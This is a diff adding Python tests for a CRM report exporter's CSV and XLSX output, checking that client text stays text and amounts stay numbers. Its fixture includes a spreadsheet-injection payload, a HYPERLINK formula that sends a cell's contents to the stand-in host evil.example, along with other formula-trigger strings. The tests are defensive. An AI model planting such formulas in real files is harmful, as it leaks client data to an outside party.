@@ -1,0 +1,47 @@
+"""Report exports: typed cells, and client text that never turns into a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+from openpyxl import load_workbook
+
+from crmkit.reports import Column, ReportResult, csv_cell, to_csv, to_xlsx
+
+LINK = '=HYPERLINK("http://evil.example/?"&A2,"Открыть")'
+TEXTS = [LINK, "+7 916 000-00-00", "-вычет", "@SUM(A1:A9)", "\tскрыто", "\rстрока"]
+
+
+def _result():
+    return ReportResult(
+        columns=[Column("client", "Client"), Column("amount", "Amount", kind="money")],
+        rows=[
+            *({"client": text, "amount": Decimal("-1500.50")} for text in TEXTS),
+            {"client": "ООО «Ромашка»", "amount": Decimal("20")},
+        ],
+        totals={"amount": Decimal("-9003.00")},
+    )
+
+
+def test_csv_cells_that_would_be_formulas_are_text_and_numbers_stay_numbers():
+    rows = list(csv.reader(io.StringIO(to_csv(_result()).decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["Client", "Amount"]
+    assert [row[0] for row in rows[1:-2]] == ["'" + text for text in TEXTS]
+    assert rows[-2] == ["ООО «Ромашка»", "20"]
+    assert all(row[1] == "-1500.50" for row in rows[1:-2])  # a negative amount is a number
+    assert rows[-1] == ["Total", "-9003.00"]
+    assert csv_cell(-3) == -3 and csv_cell(None) is None and csv_cell("ok") == "ok"
+
+
+def test_xlsx_text_is_written_as_text_never_as_a_formula():
+    sheet = load_workbook(io.BytesIO(to_xlsx(_result(), "Clients"))).active
+    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(TEXTS))]
+    # the text itself, nothing added (XML reads a carriage return back as a line feed)
+    assert [c.value for c in cells] == [text.replace("\r", "\n") for text in TEXTS]
+    assert {c.data_type for c in cells} == {"s"}
+    amount = sheet.cell(row=2, column=2)
+    assert amount.value == -1500.5 and amount.data_type == "n"
+    assert amount.number_format == "#,##0.00"
+    assert sheet.cell(row=sheet.max_row, column=2).value == -9003
